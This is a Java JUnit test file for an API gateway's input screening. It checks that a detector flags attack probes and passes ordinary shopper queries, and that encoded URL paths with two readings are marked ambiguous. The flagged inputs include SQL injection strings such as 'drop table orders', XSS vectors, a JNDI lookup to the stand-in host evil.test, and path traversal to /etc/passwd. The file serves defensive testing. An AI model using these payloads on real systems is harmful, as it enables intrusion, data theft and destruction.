package dev.souk.gateway.screening;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProbeTests {

    @ParameterizedTest
    @ValueSource(strings = {"1' or '1'='1", "1' OR 1=1 --", "x') or ('a'='a", "1 and 1=1", "admin'--", "admin' #",
            "1 union select password from users", "1 UNION/**/ALL/**/SELECT 1", "1; drop table orders",
            "1' and sleep(5)--", "1;select pg_sleep(10)", "1 waitfor delay '0:0:5'", "' or information_schema.tables",
            "<script>alert(1)</script>", "<ScRiPt src=//evil.test>", "\"><svg onload=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "data:text/html,<b>",
            "${jndi:ldap://evil.test/a}",
            "union/select", "UNION/ALL/SELECT",
            "../../etc/passwd", "..\\..\\windows\\win.ini"})
    void whatScannersSendIsSeen(String text) {
        assertThat(Probe.in(text)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"q=select", "q=select comfort shoes", "union jack t-shirt", "drop shoulder sweater",
            "rock'n'roll",
            "O'Brien", "5 > 3 and 2 < 4", "size=S or M", "black & white", "M&M's", "insert coin", "update kit; tools",
            "javascript book", "script font", "a=b&c=d", "on sale = yes", "sort=price,asc", "50% off", "<3 this bag",
            "C++ primer", "attr.size=10.5", "AT&T", "say \"hi\"", "cursor=eyJpZCI6IjEifQ==", "#1 seller",
            "mon-fri; 9-5",
            "1-2-3", "user@example.org", "information desk", "and 1 = one", "fish -- fresh"})
    void whatShoppersTypeIsNot(String text) {
        assertThat(Probe.in(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/products/../x", "/api/v1/%2e%2e/x", "/api/v1/%252e%252e/x", "/api/v1/a%2fb",
            "/api/v1/a%5cb",
            "/api/v1/a;x=1", "/api/v1/a%3bx", "/api/v1/%00", "/api/v1/a%00.json", "/api/v1//a", "/api/v1/a%0d%0ab",
            "/api/./v1",
            "/api/v1/%ff", "/api/v1/%c0%ae", "/api/v1/%zz"})
    void anAddressThatCanBeReadInTwoWaysIsAmbiguous(String path) {
        assertThat(Spelling.isAmbiguous(path)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/api/v1/products/A-1", "/api/v1/inventory/SKU.1_x~y",
            "/api/v1/products/by-external-id/B%C3%A4r",
            "/api/v1/inventory/a%20b", "/.well-known/jwks.json", "/api/v1/inventory/a+b", "/api/v1/a..b",
            "/api/v1/orders/"})
    void anAddressWithOneReadingIsNot(String path) {
        assertThat(Spelling.isAmbiguous(path)).isFalse();
    }
}
